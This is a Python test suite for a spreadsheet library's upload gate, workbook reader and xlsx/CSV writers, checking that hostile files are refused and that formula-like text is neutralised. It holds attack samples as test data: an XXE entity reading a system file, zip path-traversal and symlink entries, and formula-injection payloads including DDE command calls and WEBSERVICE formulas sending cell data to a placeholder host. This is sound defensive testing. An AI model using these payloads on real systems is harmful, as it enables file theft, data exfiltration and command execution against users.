import io
import struct
import time as clock
import warnings
import zipfile
from datetime import datetime, time
from decimal import Decimal

import openpyxl
import pytest

from partybranch import spreadsheets
from partybranch.spreadsheets import (
    CellTooLong,
    MergedRange,
    MissingFormula,
    Table,
    TooLong,
    WorkbookRefused,
    check_workbook,
    gate,
    read_workbook,
    reading,
    write_csv,
    write_workbook,
)
from tests.partybranch.packages import DECLARATION, STRINGS, pack, parts, sheet_xml, workbook

LIMIT = 10 * 1024 * 1024
DOCTYPE = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/hostname">]>'
OLE2 = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"


def refusal(data, max_bytes=LIMIT):
    with pytest.raises(WorkbookRefused) as raised:
        check_workbook(data, max_bytes=max_bytes)
    assert raised.value.reason.endswith("。")
    assert str(raised.value) == raised.value.reason
    return raised.value


def with_part(name, content):
    return pack({**parts(), name: content})


def patched(data, offset_of, at, value):
    """The zip with a two-byte field changed in each header that begins with a signature."""
    changed = bytearray(data)
    start = changed.find(offset_of)
    while start >= 0:
        changed[start + at : start + at + len(value)] = value
        start = changed.find(offset_of, start + 4)
    return bytes(changed)


# -- The gate ----------------------------------------------------------------------------------------


def test_a_workbook_passes_as_bytes_and_as_a_path(tmp_path):
    data = workbook()
    path = tmp_path / "表.xlsx"
    path.write_bytes(data)
    assert check_workbook(data, max_bytes=LIMIT) is None
    assert check_workbook(path, max_bytes=LIMIT) is None


def test_workbooks_of_openpyxl_pass(tmp_path):
    path = tmp_path / "表.xlsx"
    openpyxl.Workbook().save(path)
    check_workbook(path, max_bytes=LIMIT)


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("xl/media/image1.png", b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 40),
        ("xl/externalLinks/externalLink1.xml", f"{DECLARATION}<externalLink/>"),
        (
            "xl/worksheets/sheet1.xml",
            f'{DECLARATION}<?xml-stylesheet href="http://x/"?>{sheet_xml()[len(DECLARATION) :]}',
        ),
        ("docProps/core.xml", "\ufeff<?xml version='1.0' encoding='utf-8'?><a/>"),
        ("docProps/app.xml", "<?xml version='1.0' encoding='UTF-16'?><a/>".encode("utf-16")),
        ("xl/nested.zip", pack({"a": "b"})),
        ("custom/empty.bin", b""),
    ],
)
def test_parts_that_do_no_harm_pass(name, content):
    check_workbook(with_part(name, content), max_bytes=LIMIT)


HOSTILE = {
    "empty file": (b"", "empty"),
    "web page": (b"<html><table><tr><td>1</td></tr></table></html>", "not_zip"),
    "text": ("姓名,性别\n".encode("gbk"), "not_zip"),
    "empty zip": (pack({}), "not_zip"),
    "xls": (OLE2 + b"\0" * 512 + "Workbook".encode("utf-16-le"), "old_xls"),
    "password": (OLE2 + b"\0" * 512 + "EncryptedPackage".encode("utf-16-le"), "password"),
    "docx": (pack({"[Content_Types].xml": "<a/>", "word/document.xml": "<a/>"}), "document"),
    "pptx": (pack({"[Content_Types].xml": "<a/>", "ppt/presentation.xml": "<a/>"}), "presentation"),
    "ods": (pack({"mimetype": "application/vnd.oasis", "content.xml": "<a/>"}), "other_workbook"),
    "xlsb": (pack({"[Content_Types].xml": "<a/>", "xl/workbook.bin": "x"}), "other_workbook"),
    "any zip": (pack({"a.txt": "a"}), "not_workbook"),
    "no content types": (pack({n: c for n, c in parts().items() if n[0] != "["}), "not_workbook"),
    "no workbook part": (pack({n: c for n, c in parts().items() if n != "xl/workbook.xml"}), "not_workbook"),
    "macro project": (with_part("xl/vbaProject.bin", b"x"), "macro"),
    "macro type": (
        with_part("[Content_Types].xml", '<Types a="application/vnd.ms-excel.sheet.macroEnabled.main+xml"/>'),
        "macro",
    ),
    "doctype in a sheet": (
        with_part("xl/worksheets/sheet1.xml", f"{DECLARATION}{DOCTYPE}<a>&e;</a>"),
        "doctype",
    ),
    "doctype in strings": (with_part("xl/sharedStrings.xml", f"{DOCTYPE}<a/>"), "doctype"),
    "doctype in core": (with_part("docProps/core.xml", f"{DOCTYPE}<a/>"), "doctype"),
    "doctype in relations": (with_part("_rels/.rels", f"{DOCTYPE}<a/>"), "doctype"),
    "doctype in types": (with_part("[Content_Types].xml", f"{DOCTYPE}<a/>"), "doctype"),
    "doctype in utf-16": (with_part("docProps/core.xml", f"{DOCTYPE}<a/>".encode("utf-16")), "doctype"),
    "doctype in utf-16-be": (with_part("docProps/core.xml", f"{DOCTYPE}<a/>".encode("utf-16-be")), "doctype"),
    "doctype under another name": (with_part("xl/sheet.dat", f" \n{DOCTYPE}<a/>"), "doctype"),
    "doctype over the edge of a piece": (
        with_part("docProps/core.xml", "<!--" + "x" * (gate.CHUNK_BYTES - 10) + f"-->{DOCTYPE}<a/>"),
        "doctype",
    ),
    "parameter entity": (with_part("docProps/core.xml", '<!ENTITY % x "y"><a/>'), "doctype"),
    "utf-7": (with_part("docProps/core.xml", '<?xml version="1.0" encoding="utf-7"?>+ADwAIQ-'), "encoding"),
    "ebcdic": (with_part("docProps/core.xml", "<?xml version='1.0'?><a/>".encode("cp500")), "encoding"),
    "part far larger than packed": (
        with_part("xl/worksheets/sheet1.xml", b"<a>" + b" " * 3_000_000),
        "ratio",
    ),
    "many entries": (pack({**parts(), **{f"a/{n}": "" for n in range(600)}}), "entries"),
    "same name by case": (with_part("xl/Workbook.xml", "<a/>"), "duplicate"),
    "parent folder": (with_part("../../evil.xml", "<a/>"), "name"),
    "absolute": (with_part("/etc/evil.xml", "<a/>"), "name"),
    "backslash": (with_part("..\\evil.xml", "<a/>"), "name"),
    "drive": (with_part("C:/evil.xml", "<a/>"), "name"),
    "long name": (with_part("a" * 300, "<a/>"), "name"),
    "lzma": (pack(parts(), method=zipfile.ZIP_LZMA), "method"),
    "bzip2": (pack(parts(), method=zipfile.ZIP_BZIP2), "method"),
    "pdf in front": (b"%PDF-1.4\n" + workbook(), "prefix"),
    "zip in front": (pack({"a": "b"}) + workbook(), "prefix"),
    "cut in half": (workbook()[: len(workbook()) // 2], "damaged"),
    "a byte turned": (workbook()[:200] + b"\xff" + workbook()[201:], "damaged"),
    "encrypted entries": (patched(workbook(), b"PK\x01\x02", 8, b"\x01\x00"), "entry_encrypted"),
    "sizes that lie": (patched(workbook(), b"PK\x01\x02", 24, struct.pack("<I", 5)), "damaged"),
    "entries over one another": (patched(workbook(), b"PK\x01\x02", 42, struct.pack("<I", 0)), "damaged"),
}


@pytest.mark.parametrize("name", HOSTILE)
def test_the_gate_refuses(name):
    data, code = HOSTILE[name]
    assert refusal(data).code == code


def test_a_name_that_stands_twice():
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        data = pack([*parts().items(), ("xl/worksheets/sheet1.xml", sheet_xml())])
    assert refusal(data).code == "duplicate"


def test_a_symbolic_link():
    link = zipfile.ZipInfo("xl/link.xml")
    link.external_attr = 0o120777 << 16
    assert refusal(pack([*parts().items(), (link, "/etc/passwd")])).code == "name"


def test_a_nul_in_a_name():
    data = with_part("xl/aXb.xml", "<a/>").replace(b"xl/aXb.xml", b"xl/a\0b.xml")
    assert refusal(data).code == "name"


def test_everything_together_too_large(monkeypatch):
    monkeypatch.setattr(gate, "MAX_UNPACKED_BYTES", 2000)
    assert refusal(workbook()).code == "unpacked"


def test_one_part_too_large_by_what_it_says_and_by_what_it_is(monkeypatch):
    monkeypatch.setattr(gate, "MAX_PART_BYTES", 1000)
    data = with_part("xl/media/a.bin", bytes(range(256)) * 8)
    assert refusal(data).code == "part"
    monkeypatch.setattr(gate, "_check_entry", lambda entry: None)
    assert refusal(data).code == "part"


def test_the_limit_is_told_in_megabytes():
    assert refusal(b"x" * 11, max_bytes=10).code == "too_large"
    assert "超过10MB" in refusal(b"x" * (LIMIT + 1)).reason
    assert "超过1.5MB" in refusal(b"x" * 2_000_000, max_bytes=1_572_864).reason


def test_a_file_too_large_is_not_read(tmp_path):
    path = tmp_path / "大.xlsx"
    with path.open("wb") as stream:
        stream.truncate(LIMIT + 1)
    assert refusal(path).code == "too_large"


def test_no_sentence_of_the_gate_uses_jargon_or_shouts():
    for reason in gate.REASONS.values():
        assert not any(mark in reason for mark in "!！")
        assert not any(word in reason.lower() for word in ("zip", "xml", "doctype", "ole"))


# -- Reading -----------------------------------------------------------------------------------------


def read_rows(tmp_path, rows="", **options):
    limits = {
        "max_rows": 100,
        **{key: options.pop(key) for key in ("max_rows", "max_columns") if key in options},
    }
    path = tmp_path / "表.xlsx"
    path.write_bytes(workbook(rows, **options))
    check_workbook(path, max_bytes=LIMIT)
    return read_workbook(path, **limits).sheets[0]


def read_cells(tmp_path, *cells, **options):
    """The values of one row of cells given as XML."""
    return read_rows(tmp_path, f'<row r="1">{"".join(cells)}</row>', **options).rows[0][1]


def refused_reading(path, **options):
    with pytest.raises(WorkbookRefused) as raised:
        read_workbook(path, **{"max_rows": 100, **options})
    assert raised.value.reason.endswith("。")
    return raised.value


def test_values_of_every_type(tmp_path):
    values = read_cells(
        tmp_path,
        '<c r="A1" t="s"><v>0</v></c>',
        '<c r="B1" t="s"><v>1</v></c>',
        '<c r="C1" t="inlineStr"><is><t>甲</t><rPh sb="0" eb="1"><t>jia</t></rPh></is></c>',
        '<c r="D1"><v>28</v></c>',
        '<c r="E1"><v>46.51</v></c>',
        '<c r="F1" t="b"><v>1</v></c>',
        '<c r="G1" s="1"><v>45665</v></c>',
        '<c r="H1" s="4"><v>0.375</v></c>',
        '<c r="I1" t="e"><v>#REF!</v></c>',
        '<c r="J1" t="str"><f>A1</f><v>乙</v></c>',
        '<c r="K1" t="d"><v>2025-01-08</v></c>',
        '<c r="M1"><v>1E3</v></c>',
    )
    assert values == (
        *("姓名", "范平", "甲", 28, 46.51, True, datetime(2025, 1, 8), time(9), "#REF!", "乙"),
        *(datetime(2025, 1, 8), None, 1000.0),
    )
    assert isinstance(values[3], int)
    assert isinstance(values[5], bool)


def test_a_date_in_the_format_of_chinese_programs(tmp_path):
    assert read_cells(tmp_path, '<c r="A1" s="2"><v>45665</v></c>') == (datetime(2025, 1, 8),)


def test_a_span_of_time_is_told_in_hours_and_minutes(tmp_path):
    assert read_cells(tmp_path, '<c r="A1" s="3"><v>1.0625</v></c>') == ("25:30",)


def test_dates_counted_from_1904(tmp_path):
    properties = '<workbookPr date1904="1"/>'
    assert read_cells(tmp_path, '<c r="A1" s="1"><v>44203</v></c>', properties=properties) == (
        datetime(2025, 1, 8),
    )


def test_formulas(tmp_path):
    values = read_cells(
        tmp_path,
        '<c r="A1"><f>SUM(B1:C1)</f><v>30</v></c>',
        '<c r="B1"><f>SUM(C1:D1)</f></c>',
        '<c r="C1"><f>SUM(C1:D1)</f><v></v></c>',
        '<c r="D1" t="str"><f>IF(A1,"","")</f><v></v></c>',
        '<c r="E1"><v>1</v></c>',
    )
    assert values == (30, MissingFormula(), MissingFormula(), None, 1)


def test_a_formula_written_by_a_program_that_works_nothing_out(tmp_path):
    book = openpyxl.Workbook()
    book.active.append(["合计", "=SUM(1,2)"])
    book.save(tmp_path / "表.xlsx")
    sheet = read_workbook(tmp_path / "表.xlsx", max_rows=10).sheets[0]
    assert sheet.rows == [(1, ("合计", MissingFormula()))]


def test_cells_without_places_and_rows_without_numbers(tmp_path):
    sheet = read_rows(
        tmp_path, "<row><c><v>1</v></c><c/><c><v>3</v></c></row><row r='5'><c><v>5</v></c></row>"
    )
    assert sheet.rows == [(1, (1, None, 3)), (5, (5,))]


def test_elements_with_a_prefix(tmp_path):
    contents = parts()
    contents["xl/worksheets/sheet1.xml"] = (
        '<x:worksheet xmlns:x="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><x:sheetData>'
        '<x:row r="2"><x:c r="B2" t="inlineStr"><x:is><x:t>甲</x:t></x:is></x:c></x:row>'
        "</x:sheetData></x:worksheet>"
    )
    path = tmp_path / "表.xlsx"
    path.write_bytes(pack(contents))
    assert read_workbook(path, max_rows=10).sheets[0].rows == [(2, (None, "甲"))]


def test_blank_cells_and_rows_are_left_out(tmp_path):
    rows = '<row r="1"><c r="A1" s="1"/></row><row r="2"><c r="A2" t="inlineStr"><is><t> </t></is></c></row>'
    assert read_rows(tmp_path, f'{rows}<row r="9"><c r="B9"><v>1</v></c><c r="C9"/></row>').rows == [
        (9, (None, 1))
    ]


def test_text_too_long_and_numbers_too_long_are_marked(tmp_path):
    values = read_cells(
        tmp_path,
        f'<c r="A1" t="inlineStr"><is><t>{"长" * 2001}</t></is></c>',
        f'<c r="B1" t="inlineStr"><is><t>{"长" * 2000}</t></is></c>',
        f'<c r="C1"><v>{"9" * 200_000}</v></c>',
        '<c r="D1"><v>999999199508178000</v></c>',
    )
    assert values == (TooLong(2001), "长" * 2000, TooLong(200_000), 999999199508178000)


def test_characters_no_file_should_hold_arrive_escaped_or_not_at_all(tmp_path):
    (value,) = read_cells(tmp_path, '<c r="A1" t="inlineStr"><is><t>a_x000D_b_xD800_c_x005F_d</t></is></c>')
    assert value == "a\rb_xD800_c_d"


def test_a_date_outside_every_calendar_stays_a_number(tmp_path):
    assert read_cells(tmp_path, '<c r="A1" s="1"><v>1000000000000</v></c>') == (10**12,)


def test_merged_ranges_are_told_and_have_their_value_in_the_first_cell(tmp_path):
    ranges = "".join(f'<mergeCell ref="{name}"/>' for name in ("A1:A3", "A1:XFD1048576", "bad"))
    after = f"<mergeCells>{ranges}</mergeCells>"
    sheet = read_rows(tmp_path, '<row r="1"><c r="A1"><v>1</v></c></row>', after=after)
    assert sheet.merged == [MergedRange(1, 1, 3, 1), MergedRange(1, 1, 1048576, 60)]
    assert sheet.rows == [(1, (1,))]


def test_hidden_sheets_are_named_and_left_out(tmp_path):
    book = openpyxl.Workbook()
    book.active.title = "一季度"
    book.active.append(["甲"])
    book.create_sheet("底稿").sheet_state = "hidden"
    book.create_sheet("深藏").sheet_state = "veryHidden"
    book.create_sheet("二季度").append(["乙"])
    book.save(tmp_path / "表.xlsx")
    read = read_workbook(tmp_path / "表.xlsx", max_rows=10)
    assert [sheet.title for sheet in read.sheets] == ["一季度", "二季度"]
    assert read.skipped == ["底稿", "深藏"]


def test_columns_beyond_the_limit_are_left_out(tmp_path):
    row = '<row r="1"><c r="A1"><v>1</v></c><c r="C1"><v>3</v></c><c r="XFD1"><v>9</v></c></row>'
    assert read_rows(tmp_path, row, max_columns=2).rows == [(1, (1,))]


def rows_of(count):
    return "".join(f'<row r="{n}"><c r="A{n}"><v>{n}</v></c></row>' for n in range(1, count + 1))


def test_as_many_rows_as_allowed_and_one_more(tmp_path):
    assert len(read_rows(tmp_path, rows_of(50), max_rows=50).rows) == 50
    path = tmp_path / "表.xlsx"
    path.write_bytes(workbook(rows_of(51)))
    refused = refused_reading(path, max_rows=50)
    assert refused.code == "too_many_rows"
    assert "50行" in refused.reason


def test_rows_are_counted_over_all_sheets(tmp_path):
    book = openpyxl.Workbook()
    book.create_sheet("二")
    for sheet in book.worksheets:
        for number in range(6):
            sheet.append([number])
    book.save(tmp_path / "表.xlsx")
    assert refused_reading(tmp_path / "表.xlsx", max_rows=10).code == "too_many_rows"


def test_one_cell_at_the_far_end_of_the_sheet(tmp_path):
    path = tmp_path / "表.xlsx"
    path.write_bytes(workbook('<row r="1048576"><c r="A1048576"><v>1</v></c></row>'))
    started = clock.monotonic()
    assert refused_reading(path).code == "too_many_rows"
    assert clock.monotonic() - started < 10


@pytest.mark.parametrize(
    "rows",
    [
        '<row r="1"><c r="AAAAAAA1"><v>1</v></c></row>',
        '<row r="1"><c r="A1" t="s"><v>99</v></c></row>',
        '<row r="1"><c r="A1" t="s"><v>x</v></c></row>',
        '<row r="1"><c r="B1"><v>1</v></c><c r="A1"><v>1</v></c></row>',
        '<row r="1"><c r="A1"><v>1</c></row>',
    ],
)
def test_a_sheet_that_says_what_no_sheet_can(tmp_path, rows):
    path = tmp_path / "表.xlsx"
    path.write_bytes(workbook(rows))
    refused = refused_reading(path)
    assert refused.code == "damaged"
    assert refused.detail


def test_a_document_type_is_refused_even_behind_the_gate(tmp_path):
    contents = parts()
    contents["xl/worksheets/sheet1.xml"] = f"{DECLARATION}{DOCTYPE}<worksheet><sheetData/></worksheet>"
    path = tmp_path / "表.xlsx"
    path.write_bytes(pack(contents))
    assert refused_reading(path).code == "damaged"


def test_what_is_no_workbook(tmp_path):
    path = tmp_path / "表.xlsx"
    path.write_bytes(b"no workbook at all")
    assert refused_reading(path).code == "damaged"


def test_more_text_than_the_parent_wants(tmp_path, monkeypatch):
    monkeypatch.setattr(reading, "_CHARACTERS_AT_LEAST", 1000)
    monkeypatch.setattr(reading, "_CHARACTERS_A_ROW", 1)
    contents = parts("".join(f'<row r="{n}"><c r="A{n}" t="s"><v>0</v></c></row>' for n in range(1, 90)))
    contents["xl/sharedStrings.xml"] = STRINGS.replace("姓名", "长" * 1900)
    path = tmp_path / "表.xlsx"
    path.write_bytes(pack(contents))
    assert refused_reading(path).code == "too_much_text"


def test_too_slow(tmp_path):
    path = tmp_path / "表.xlsx"
    path.write_bytes(workbook(rows_of(10)))
    assert refused_reading(path, timeout=0.01).code == "too_slow"


def test_too_much_memory(tmp_path, monkeypatch):
    monkeypatch.setattr(reading, "_MEMORY_BYTES", 48 * 1024 * 1024)
    path = tmp_path / "表.xlsx"
    contents = parts()
    contents["xl/sharedStrings.xml"] = STRINGS.replace("姓名", "长" * 8_000_000)
    path.write_bytes(pack(contents))
    assert refused_reading(path).code in {"too_much_memory", "stopped"}


def test_the_reading_process_does_not_see_the_settings(tmp_path, monkeypatch):
    seen = {}

    def run(command, **options):
        seen.update(options["env"])
        raise reading.subprocess.TimeoutExpired(command, 1)

    monkeypatch.setenv("SECRET_KEY", "canary")
    monkeypatch.setattr(reading.subprocess, "run", run)
    assert refused_reading(tmp_path / "表.xlsx").code == "too_slow"
    assert "SECRET_KEY" not in seen


def test_a_process_that_dies(tmp_path, monkeypatch):
    died = reading.subprocess.CompletedProcess([], -9, stdout=b'{"event":"sheet","ti', stderr=b"")
    monkeypatch.setattr(reading.subprocess, "run", lambda *a, **k: died)
    assert refused_reading(tmp_path / "表.xlsx").code == "stopped"


# -- Writing -----------------------------------------------------------------------------------------

PAYLOADS = [
    "=1+1",
    "=cmd|'/C calc'!A0",
    '=HYPERLINK("http://x/","点这里")',
    '=WEBSERVICE("http://x/"&A1)',
    '=IMPORTXML(CONCAT("http://x/",A1),"//a")',
    "+1+1",
    "+cmd|'/C calc'!A0",
    "-1+1",
    "-2+3+cmd|'/C calc'!A0",
    "@SUM(1+1)",
    "@cmd",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u3000=1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    '=DDE("cmd";"/C calc";"x")',
    "{=1+1}",
    '="a"&"b"',
    "'=1+1",
    "%0A=1+1",
    "=1+1;=2+2",
    "-",
    "=",
]


def written(*tables):
    stream = io.BytesIO()
    write_workbook(stream, tables)
    check_workbook(stream.getvalue(), max_bytes=LIMIT)
    return openpyxl.load_workbook(io.BytesIO(stream.getvalue()))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_text_leaves_as_text_and_unchanged(payload):
    sheet = written(Table("表", ["列", payload], [[payload, "别的"]])).active
    for cell in (sheet["A2"], sheet["B1"]):
        assert cell.data_type == "s"
        assert cell.value == payload
    if spreadsheets.writing.could_be_formula(payload):
        assert sheet["A2"].quotePrefix
    assert not sheet["B2"].quotePrefix


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_text_written_to_csv_gets_an_apostrophe_where_it_could_be_a_formula(payload):
    stream = io.BytesIO()
    write_csv(stream, Table("表", ["列"], [[payload]]))
    text = stream.getvalue().decode("utf-8-sig")
    safe = payload[0] in "{'%"
    assert text == f"列\r\n{_quoted(payload if safe else chr(39) + payload)}\r\n"


def _quoted(text):
    return '"' + text.replace('"', '""') + '"' if any(mark in text for mark in ',"\r\n') else text


def test_values_keep_their_types():
    row = [
        "范平",
        28,
        1.5,
        Decimal("46.51"),
        datetime(2025, 1, 8, 9, 30).date(),
        True,
        None,
        "",
        999999199508178248,
    ]
    sheet = written(Table("表", list("甲乙丙丁戊己庚辛壬"), [row])).active
    values = [cell.value for cell in sheet[2]]
    assert values[:3] == ["范平", 28, 1.5]
    assert values[3] == 46.51
    assert sheet["D2"].number_format == "0.00"
    assert values[4] == datetime(2025, 1, 8)
    assert sheet["E2"].number_format == "yyyy-mm-dd"
    assert values[5:] == ["是", None, None, "999999199508178248"]


def test_what_is_exported_can_be_imported(tmp_path):
    row = ["\r换行", "_x000D_", "19900000000", "甲 乙", Decimal("0.10")]
    path = tmp_path / "表.xlsx"
    write_workbook(path, [Table("表", list("甲乙丙丁戊"), [row])])
    (sheet,) = read_workbook(path, max_rows=10).sheets
    assert sheet.rows[1][1] == ("\r换行", "_x000D_", "19900000000", "甲 乙", 0.1)


def test_a_number_format_and_widths():
    sheet = written(
        Table("表", ["金额", "名称"], [[5, "甲"]], widths=[20], number_formats={0: "#,##0"})
    ).active
    assert sheet["A2"].number_format == "#,##0"
    assert sheet.column_dimensions["A"].width == 20
    assert sheet.column_dimensions["B"].width >= 8
    assert sheet.freeze_panes == "A2"
    assert sheet["A1"].font.bold


def test_control_characters_are_removed():
    sheet = written(Table("表", ["列"], [["a\x00b\x0bc\ud800d\uffff\x1f"]])).active
    assert sheet["A2"].value == "abcd"


def test_text_too_long_for_a_cell_is_an_error_and_not_cut(tmp_path):
    write_workbook(tmp_path / "表.xlsx", [Table("表", ["列"], [["长" * 32_767]])])
    with pytest.raises(CellTooLong, match="32767"):
        write_workbook(io.BytesIO(), [Table("表", ["列"], [["长" * 32_768]])])
    with pytest.raises(CellTooLong):
        write_csv(io.BytesIO(), Table("表", ["列"], [["长" * 32_768]]))


def test_a_value_no_cell_can_hold():
    for write in (
        lambda table: write_workbook(io.BytesIO(), [table]),
        lambda table: write_csv(io.BytesIO(), table),
    ):
        with pytest.raises(TypeError):
            write(Table("表", ["列"], [[["a list"]]]))


def test_titles_of_sheets_are_made_to_fit_and_to_differ():
    book = written(
        *(Table(title, ["列"], []) for title in ["第1/2页", "第1/2页", "长" * 40, "长" * 40, "", "[]"])
    )
    assert book.sheetnames == ["第1 2页", "第1 2页（2）", "长" * 31, "长" * 28 + "（2）", "表", "表（2）"]


def test_csv_values(tmp_path):
    table = Table(
        "表",
        ["甲", "乙", "丙", "丁"],
        [["a,b", Decimal("-5.00"), datetime(2025, 1, 8).date(), None], [True, 1, "", time(9)]],
    )
    write_csv(tmp_path / "表.csv", table)
    data = (tmp_path / "表.csv").read_bytes()
    assert data.startswith(b"\xef\xbb\xbf")
    assert data.decode("utf-8-sig") == '甲,乙,丙,丁\r\n"a,b",-5.00,2025-01-08,\r\n是,1,,09:00\r\n'
